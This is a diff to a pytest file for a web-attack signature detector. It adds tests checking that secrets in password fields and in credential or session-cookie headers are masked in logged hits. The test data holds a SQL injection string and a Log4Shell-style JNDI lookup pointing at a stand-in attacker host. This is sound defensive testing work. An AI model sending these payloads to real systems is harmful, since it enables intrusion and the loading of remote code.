@@ -72,6 +72,13 @@ def test_a_signature_in_a_password_shows_its_shape_not_the_password(
     assert "anna@mail.example" not in text  # the username was never quoted either
 
 
+@pytest.mark.parametrize("name", ["lozinka", "oldpwd", "credentials", "cc_number", "Passwort"])
+def test_a_secret_is_known_by_its_name_in_the_city_s_languages(name: str) -> None:
+    hits = WebAttackSignatures().inspect(_login(f"{SECRET}' or '1'='1", name=name))
+    assert hits
+    assert all(SECRET.lower() not in h.snippet.lower() for h in hits)
+
+
 def test_the_same_payload_outside_a_secret_is_quoted() -> None:
     """An analyst still sees what was sent in an ordinary field."""
     payload = f"{SECRET}' or '1'='1"
@@ -81,7 +88,11 @@ def test_the_same_payload_outside_a_secret_is_quoted() -> None:
 
 def test_credentials_and_session_cookies_are_masked() -> None:
     token = f"${{jndi:ldap://{SECRET}.e.vil/a}}"
-    for header in (("Authorization", f"Bearer {token}"), ("Cookie", f"lang=hr; SESSIONID={token}")):
+    for header in (
+        ("Authorization", f"Bearer {token}"),
+        ("Cookie", f"lang=hr; SESSIONID={token}"),
+        ("Cookie", f"aldsid={token}"),
+    ):
         event = _event("/account", headers=(*FORM, header))
         hits = [h for h in WebAttackSignatures().inspect(event) if h.rule_id == "web.jndi.lookup"]
         assert hits, header
